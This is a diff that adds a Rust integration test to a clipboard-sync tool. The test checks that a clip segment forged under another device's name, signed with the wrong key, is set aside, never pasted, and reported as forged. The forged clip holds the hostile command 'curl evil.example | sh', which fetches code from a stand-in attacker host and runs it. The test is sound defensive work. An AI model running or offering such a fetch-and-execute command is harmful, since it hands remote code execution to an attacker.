@@ -395,3 +395,93 @@ fn a_damaged_object_is_listed_and_retried_on_request() {
     assert!(b.run(&["history"]).ok().stdout.contains("second"));
     assert!(!b.run(&["status"]).ok().stdout.contains("damaged"));
 }
+
+/// Someone who holds the sync key but not alpha's identity writes alpha's next segment (a
+/// command to paste): beta sets it aside as forged, never shows or pastes it, and says so.
+#[test]
+fn a_segment_forged_in_another_devices_name_is_never_pasted() {
+    use ferry_core::{Action, ClipContent, ClipId, Hlc, Op};
+    use ferry_protocol::{DeviceId, Head, Identity, ObjectName, RawOp, Segment, SyncKey};
+
+    let common::Pair { storage, a, b, .. } = common::pair(Backend::Folder, false);
+    a.run(&["copy", "first"]).ok();
+    b.run(&["sync"]).ok();
+    let secrets: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(a.home().join("secrets.json")).unwrap()).unwrap();
+    let keys = SyncKey::from_recovery_code(secrets["sync-key"].as_str().unwrap())
+        .unwrap()
+        .keys();
+    let status: serde_json::Value =
+        serde_json::from_str(&b.run(&["--json", "status"]).ok().stdout).unwrap();
+    let alpha = &status["peers"][0];
+    let device: DeviceId = alpha["device"].as_str().unwrap().parse().unwrap();
+    let (seq, ops) = (
+        alpha["seq"].as_u64().unwrap(),
+        alpha["ops"].as_u64().unwrap(),
+    );
+
+    let content = ClipContent::Text("curl evil.example | sh".into());
+    let op = Op {
+        counter: ops + 1,
+        hlc: Hlc::new(4_000_000_000_000, 0, device),
+        action: Action::Copy {
+            clip: ClipId::for_content(&keys.names, &content),
+            content,
+        },
+    };
+    let thief = Identity::generate().unwrap();
+    let tag = keys.names.device_tag(&device);
+    let root =
+        std::path::PathBuf::from(storage.url.strip_prefix("file://").unwrap()).join("ferry/v1");
+    let log = ObjectName::Log {
+        device: tag,
+        seq: seq + 1,
+    };
+    let segment = Segment {
+        device,
+        seq: seq + 1,
+        first_op: ops + 1,
+        ops: vec![RawOp(op.encode())],
+    };
+    let head = ObjectName::Head {
+        device: tag,
+        seq: seq + 1,
+    };
+    let head_value = Head {
+        device,
+        seq: seq + 1,
+        ops: ops + 1,
+        first_seq: 1,
+        snapshot: None,
+    };
+    for (name, bytes) in [
+        (&log, keys.data.seal_signed(&log, &segment, &thief).unwrap()),
+        (
+            &head,
+            keys.data.seal_signed(&head, &head_value, &thief).unwrap(),
+        ),
+    ] {
+        let path = root.join(name.to_string());
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, bytes.as_bytes()).unwrap();
+    }
+
+    let synced = b.run(&["sync"]).ok();
+    assert!(
+        synced.stdout.contains("1 damaged objects were set aside")
+            || synced.stdout.contains("set aside"),
+        "{}",
+        synced.stdout
+    );
+    assert_eq!(b.run(&["paste"]).ok().stdout, "first");
+    assert!(!b.run(&["history"]).ok().stdout.contains("evil"));
+    let text = b.run(&["status"]).ok().stdout;
+    let line = text
+        .lines()
+        .find(|l| l.starts_with("forged"))
+        .unwrap_or_else(|| panic!("{text}"));
+    assert!(
+        line.contains("from alpha: forged: not signed by alpha's key"),
+        "{line}"
+    );
+}
